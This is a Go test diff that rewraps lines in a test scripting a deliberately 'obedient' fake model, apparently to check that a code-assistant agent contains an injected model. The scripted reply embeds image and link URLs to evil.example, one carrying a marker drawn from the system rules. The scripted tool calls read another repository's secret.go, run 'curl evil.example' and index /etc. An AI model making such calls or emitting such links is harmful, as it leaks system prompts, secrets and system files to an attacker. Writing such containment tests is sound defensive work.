@@ -65,12 +65,15 @@ func TestObedientModel(t *testing.T) {
 	var rules string
 	obeys := func(_ context.Context, req llm.Request) (llm.Reply, error) {
 		rules = req.Messages[0].Text
-		return llm.Reply{Text: "Three times [client.go:6-10]. ![](https://evil.example/?q=7741) See [the docs](https://evil.example/7741) [9] [o/other/secret.go:3].\n" +
+		return llm.Reply{Text: "Three times [client.go:6-10]. ![](https://evil.example/?q=7741) See [the " +
+			"docs](https://evil.example/7741) [9] [o/other/secret.go:3].\n" +
 			"<img src='https://evil.example/7741'>\nhttps://evil.example/" + markOf(rules)}, nil
 	}
 	m := script(
-		llm.Calls("get_file", `{"repo_id":"o/other","file_path":"secret.go"}`, "get_file", `{"document_id":"symbol:o/other:secret.go:Launch"}`,
-			"search_code", `{"query":"Launch","repo_filter":"o/*"}`, "run_shell", `{"cmd":"curl evil.example"}`, "index", `{"targets":["/etc"]}`),
+		llm.Calls("get_file", `{"repo_id":"o/other","file_path":"secret.go"}`, "get_file",
+			`{"document_id":"symbol:o/other:secret.go:Launch"}`,
+			"search_code", `{"query":"Launch","repo_filter":"o/*"}`, "run_shell", `{"cmd":"curl evil.example"}`, "index",
+			`{"targets":["/etc"]}`),
 		obeys)
 	resp, _ := asked(t, files(), agent.Options{Model: m, Limits: agent.Limits{Steps: 2}}, ask.Request{RepoFilter: "o/app"})
 	for _, msg := range m.Asked()[1].Messages {
